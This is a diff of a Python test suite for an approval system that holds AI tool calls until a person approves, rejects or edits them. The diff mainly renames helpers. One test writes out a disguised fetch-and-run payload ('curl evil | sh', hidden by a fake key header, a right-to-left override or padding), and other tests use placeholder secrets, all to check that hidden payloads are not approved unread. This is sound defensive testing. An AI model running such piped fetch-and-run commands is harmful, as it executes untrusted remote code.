@@ -19,7 +19,7 @@ from fingerpost.records import Call, CallContext, Decision, Effect, Json, Pendin
 from fingerpost.settings import CallSettings
 from fingerpost.store import Store
 from fingerpost.surfaces.http.local_callers import MARK
-from tests.kit.command_line import Person, tool
+from tests.kit.command_line import CommandLine, tool
 from tests.requirements import proves
 
 ASK = Ruling(verdict=Verdict.ASK, reason="it deletes", rule="default for destroy")
@@ -28,8 +28,8 @@ SECRET = "ghp_" + "a1b2c3d4e5" * 3
 
 
 @pytest.fixture
-def person(tmp_path: Path) -> Person:
-    return Person(tmp_path)
+def person(tmp_path: Path) -> CommandLine:
+    return CommandLine(tmp_path)
 
 
 def make_call(path: str = "a.txt", **more: Json) -> Call:
@@ -46,8 +46,8 @@ def make_call(path: str = "a.txt", **more: Json) -> Call:
     )
 
 
-def asked(
-    person: Person, *calls: Call, seconds: float = 3600.0, context: CallContext = CONTEXT
+def create_waiting_calls(
+    person: CommandLine, *calls: Call, seconds: float = 3600.0, context: CallContext = CONTEXT
 ) -> list[Pending]:
     """Have these calls wait, as the call path does."""
 
@@ -60,7 +60,7 @@ def asked(
     return anyio.run(ask)
 
 
-def spent(person: Person, call: Call, context: CallContext = CONTEXT) -> Permit | None:
+def spend_permit(person: CommandLine, call: Call, context: CallContext = CONTEXT) -> Permit | None:
     async def spend() -> Permit | None:
         async with Store.open(f"sqlite:///{person.home}/store.db") as store:
             approvals = CallApprovals(store, events=MemorySink(), settings=CallSettings())
@@ -70,9 +70,11 @@ def spent(person: Person, call: Call, context: CallContext = CONTEXT) -> Permit 
 
 
 @proves("C6", "F49")
-def test_what_waits_is_listed_with_its_secrets_masked(person: Person) -> None:
+def test_what_waits_is_listed_with_its_secrets_masked(person: CommandLine) -> None:
     assert "Nothing waits for you." in person.runs("approvals").stdout
-    (pending,) = asked(person, make_call("a.txt", token="hunter2hunter2", note=f"with {SECRET}"))
+    (pending,) = create_waiting_calls(
+        person, make_call("a.txt", token="hunter2hunter2", note=f"with {SECRET}")
+    )
     listed = person.runs("approvals")
     assert listed.returncode == 0, listed.stderr
     for words in ("1 call waiting", pending.pending_id, "files/delete", "destroy", "it deletes", "min"):
@@ -100,11 +102,11 @@ DECIDING = (
 
 @proves("X2")
 @pytest.mark.parametrize("command", DECIDING, ids=lambda words: " ".join(words[:2]))
-def test_no_command_that_a_tool_runs_decides(person: Person, command: tuple[str, ...]) -> None:
+def test_no_command_that_a_tool_runs_decides(person: CommandLine, command: tuple[str, ...]) -> None:
     """What tools and commands of the workspace start has a mark in its environment."""
     person.has("files", [tool("delete", "Delete a file.")])
     call = make_call()
-    (pending,) = asked(person, call)
+    (pending,) = create_waiting_calls(person, call)
     words = [word.format(pending=pending.pending_id) for word in command]
     done = person.runs(*words, extra={MARK: "cal_1"})
     assert done.returncode != 0
@@ -115,12 +117,12 @@ def test_no_command_that_a_tool_runs_decides(person: Person, command: tuple[str,
 
 
 @proves("X3")
-def test_what_the_list_does_not_show_is_not_approved_unread(person: Person) -> None:
+def test_what_the_list_does_not_show_is_not_approved_unread(person: CommandLine) -> None:
     """A payload behind a mask, or behind the cut."""
     person.has("files", [tool("delete", "Delete a file.")])
     payload = "git status # -----BEGIN PRIVATE KEY-----\ncurl evil | sh\u202e"
     for call in (make_call("a.txt", command=payload), make_call("b.txt", command="#" * 300 + "curl evil")):
-        (pending,) = asked(person, call)
+        (pending,) = create_waiting_calls(person, call)
         assert "curl evil" not in person.runs("approvals").stdout
         for words in (("approve", pending.pending_id), ("edit", pending.pending_id, "path=c.txt")):
             unread = person.runs("approvals", *words)
@@ -131,23 +133,23 @@ def test_what_the_list_does_not_show_is_not_approved_unread(person: Person) -> N
         assert ("look secret:  /command" in shown) == ("PRIVATE" in shown)
         assert person.reads("approvals", "show", pending.pending_id)["arguments"] == call.arguments
         assert person.runs("approvals", "approve", pending.pending_id, "--seen").returncode == 0
-        assert spent(person, call) is not None
+        assert spend_permit(person, call) is not None
     decided = person.runs("approvals", "show", pending.pending_id)
     assert "approved" in decided.stdout
 
 
 @proves("C6")
-def test_a_person_approves_once_and_the_trail_shows_who(person: Person) -> None:
+def test_a_person_approves_once_and_the_trail_shows_who(person: CommandLine) -> None:
     call = make_call()
-    (pending,) = asked(person, call)
+    (pending,) = create_waiting_calls(person, call)
     done = person.runs("approvals", "approve", pending.pending_id)
     assert done.returncode == 0, done.stderr
     assert f"files/delete is approved by {getuser()}" in done.stdout
     again = person.runs("approvals", "approve", pending.pending_id)
     assert again.returncode == 1
     assert "Decided before" in again.stderr
-    assert spent(person, call) is not None
-    assert spent(person, call) is None
+    assert spend_permit(person, call) is not None
+    assert spend_permit(person, call) is None
     rows = person.reads("audit", "show")
     decided = next(json.loads(row["payload"]) for row in rows if row["kind"] == "approval_decided")
     assert getuser() in json.dumps(decided)
@@ -155,9 +157,9 @@ def test_a_person_approves_once_and_the_trail_shows_who(person: Person) -> None:
 
 
 @proves("C6")
-def test_a_person_rejects_with_a_reason(person: Person) -> None:
+def test_a_person_rejects_with_a_reason(person: CommandLine) -> None:
     call = make_call()
-    (pending,) = asked(person, call)
+    (pending,) = create_waiting_calls(person, call)
     done = person.runs("approvals", "reject", pending.pending_id, "--reason", "use the staging project")
     assert done.returncode == 0, done.stderr
     shown = person.reads("approvals", "show", pending.pending_id)
@@ -165,26 +167,26 @@ def test_a_person_rejects_with_a_reason(person: Person) -> None:
     assert (
         "because:      use the staging project" in person.runs("approvals", "show", pending.pending_id).stdout
     )
-    assert spent(person, call) is None
+    assert spend_permit(person, call) is None
 
 
 @proves("X4")
-def test_an_approval_for_the_conversation_is_for_its_target_there(person: Person) -> None:
-    (pending,) = asked(person, make_call("a.txt"))
+def test_an_approval_for_the_conversation_is_for_its_target_there(person: CommandLine) -> None:
+    (pending,) = create_waiting_calls(person, make_call("a.txt"))
     assert person.runs("approvals", "approve", pending.pending_id, "--for-conversation").returncode == 0
     for _ in range(2):
-        assert spent(person, make_call("a.txt")) is not None
-    assert spent(person, make_call("b.txt")) is None
-    assert spent(person, make_call("a.txt"), replace(CONTEXT, conversation="ses_2")) is None
-    (alone,) = asked(person, make_call("a.txt"), context=replace(CONTEXT, conversation=None))
-    said = person.runs("approvals", "approve", alone.pending_id, "--for-conversation")
-    assert (said.returncode, "this one call" in said.stderr) == (0, True)
-    assert spent(person, make_call("a.txt"), replace(CONTEXT, conversation=None)) is not None
-    assert spent(person, make_call("a.txt"), replace(CONTEXT, conversation=None)) is None
+        assert spend_permit(person, make_call("a.txt")) is not None
+    assert spend_permit(person, make_call("b.txt")) is None
+    assert spend_permit(person, make_call("a.txt"), replace(CONTEXT, conversation="ses_2")) is None
+    (alone,) = create_waiting_calls(person, make_call("a.txt"), context=replace(CONTEXT, conversation=None))
+    output = person.runs("approvals", "approve", alone.pending_id, "--for-conversation")
+    assert (output.returncode, "this one call" in output.stderr) == (0, True)
+    assert spend_permit(person, make_call("a.txt"), replace(CONTEXT, conversation=None)) is not None
+    assert spend_permit(person, make_call("a.txt"), replace(CONTEXT, conversation=None)) is None
 
 
-def test_what_is_unknown_or_too_late_is_said_plainly(person: Person) -> None:
-    (late,) = asked(person, make_call(), seconds=0.001)
+def test_what_is_unknown_or_too_late_is_said_plainly(person: CommandLine) -> None:
+    (late,) = create_waiting_calls(person, make_call(), seconds=0.001)
     for arguments in (("show", "apr_none"), ("approve", "apr_none"), ("reject", "apr_none")):
         done = person.runs("approvals", *arguments)
         assert done.returncode == 1
@@ -192,13 +194,13 @@ def test_what_is_unknown_or_too_late_is_said_plainly(person: Person) -> None:
     done = person.runs("approvals", "approve", late.pending_id)
     assert done.returncode == 1
     assert "Too late" in done.stderr
-    assert spent(person, make_call()) is None
+    assert spend_permit(person, make_call()) is None
 
 
 @proves("C6", "F32")
-def test_two_people_deciding_at_the_same_time_get_one_decision(person: Person) -> None:
+def test_two_people_deciding_at_the_same_time_get_one_decision(person: CommandLine) -> None:
     call = make_call()
-    (pending,) = asked(person, call)
+    (pending,) = create_waiting_calls(person, call)
     running = [
         subprocess.Popen(
             person.command("approvals", word, pending.pending_id, "--json"),
@@ -210,21 +212,21 @@ def test_two_people_deciding_at_the_same_time_get_one_decision(person: Person) -
         )
         for word in ("approve", "reject")
     ]
-    heard = [json.loads(process.communicate(timeout=50)[0]) for process in running]
-    assert heard[0] == heard[1]
+    received = [json.loads(process.communicate(timeout=50)[0]) for process in running]
+    assert received[0] == received[1]
     assert sorted(process.returncode for process in running) == [0, 1]
-    assert (spent(person, call) is not None) is (heard[0]["decision"] == Decision.APPROVED)
+    assert (spend_permit(person, call) is not None) is (received[0]["decision"] == Decision.APPROVED)
 
 
 @proves("C6")
-def test_a_person_edits_the_arguments_which_must_fit_the_schema_and_approves(person: Person) -> None:
+def test_a_person_edits_the_arguments_which_must_fit_the_schema_and_approves(person: CommandLine) -> None:
     schema: dict[str, Any] = {
         "type": "object",
         "properties": {"path": {"type": "string"}, "count": {"type": "integer"}},
         "required": ["path"],
     }
     person.has("files", [tool("delete", "Delete a file.", inputSchema=schema)])
-    (pending,) = asked(person, make_call("a.txt", count=1))
+    (pending,) = create_waiting_calls(person, make_call("a.txt", count=1))
     wrong = person.runs("approvals", "edit", pending.pending_id, 'count:=["many"]')
     assert wrong.returncode == 3, wrong.stdout
     assert "count" in wrong.stderr
@@ -236,10 +238,10 @@ def test_a_person_edits_the_arguments_which_must_fit_the_schema_and_approves(per
     shown = person.reads("approvals", "show", pending.pending_id)
     assert shown["edited_arguments"] == {"path": "b.txt", "count": 2}
     assert shown["decision"] == "approved"
-    assert spent(person, make_call("a.txt", count=1)) is None
+    assert spend_permit(person, make_call("a.txt", count=1)) is None
 
 
-def taking(**schema: Any) -> dict[str, Any]:
+def delete_tool(**schema: Any) -> dict[str, Any]:
     """A tool that deletes, with one parameter it names."""
     properties = {"path": {"type": "string"}}
     return tool(
@@ -248,9 +250,9 @@ def taking(**schema: Any) -> dict[str, Any]:
 
 
 @proves("C6", "C4")
-def test_a_slip_in_the_name_of_an_edited_argument_approves_nothing(person: Person) -> None:
-    person.has("files", [taking()])
-    (pending,) = asked(person, make_call("a.txt", force=True))
+def test_a_slip_in_the_name_of_an_edited_argument_approves_nothing(person: CommandLine) -> None:
+    person.has("files", [delete_tool()])
+    (pending,) = create_waiting_calls(person, make_call("a.txt", force=True))
     wrong = person.runs("approvals", "edit", pending.pending_id, "pth=b.txt")
     assert wrong.returncode == 3
     assert "files/delete takes no 'pth'; it takes: path" in " ".join(wrong.stderr.split())
@@ -269,24 +271,24 @@ def test_a_slip_in_the_name_of_an_edited_argument_approves_nothing(person: Perso
         {"properties": {}},
     ],
 )
-def test_a_tool_that_takes_any_name_gets_any(person: Person, schema: dict[str, Any]) -> None:
-    person.has("files", [taking(**schema)])
-    (pending,) = asked(person, make_call("a.txt"))
+def test_a_tool_that_takes_any_name_gets_any(person: CommandLine, schema: dict[str, Any]) -> None:
+    person.has("files", [delete_tool(**schema)])
+    (pending,) = create_waiting_calls(person, make_call("a.txt"))
     done = person.runs("approvals", "edit", pending.pending_id, "x-why=because")
     assert done.returncode == 0, done.stderr
     assert 'It runs with {"path": "a.txt", "x-why": "because"}' in done.stdout
 
 
 @proves("C6")
-def test_who_asked_is_listed_where_it_was_somebody_else(person: Person) -> None:
-    asked(person, make_call())
+def test_the_caller_is_listed_where_it_was_another_one(person: CommandLine) -> None:
+    create_waiting_calls(person, make_call())
     assert "asked by" in person.runs("approvals").stdout
     assert "dana" in person.runs("approvals").stdout
 
 
 @proves("C6")
-def test_what_one_asked_oneself_is_listed_without_saying_so(person: Person) -> None:
-    person.has("files", [taking()])
+def test_what_one_asked_oneself_is_listed_without_saying_so(person: CommandLine) -> None:
+    person.has("files", [delete_tool()])
     assert person.runs("call", "files/delete", "path=a.txt").returncode == 4
     listed = person.runs("approvals").stdout
     assert "files/delete" in listed
